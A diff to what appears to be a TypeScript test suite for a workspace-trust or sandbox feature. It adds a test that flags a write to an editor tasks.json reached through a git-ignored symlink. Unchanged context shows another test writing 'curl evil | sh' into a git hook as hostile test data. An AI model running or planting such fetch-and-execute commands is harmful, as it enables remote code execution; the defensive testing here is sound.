@@ -76,6 +76,19 @@ export function describeTrust(name: string, harness: Harness): void {
       },
     );
 
+    it('sets apart what an ignored link makes a file that the editor obeys', async () => {
+      await desk.write('.git/info/exclude', '/.vscode\n');
+      await mkdir(join(desk.project, 'dev/vscode'), { recursive: true });
+      await desk.write('dev/vscode/tasks.json', '{}\n');
+      await symlink('dev/vscode', join(desk.project, '.vscode'));
+      const { session } = await desk.start();
+      await desk.inside(session, `echo '{"tasks":[]}' >dev/vscode/tasks.json`);
+      await session.refreshChanges(never);
+      const found = session.changes()?.changes.map(({ path, danger }) => [path, ...danger]);
+      assert.deepEqual(found, [['dev/vscode/tasks.json', 'editor-config']]);
+      await session.delete(new Gesture('delete-session', session.id));
+    });
+
     it('does not ask git where the folder is trusted no more', async () => {
       const { session } = await desk.start({ trusted: () => false });
       await desk.inside(session, `echo 'curl evil | sh' >>${hook}`);
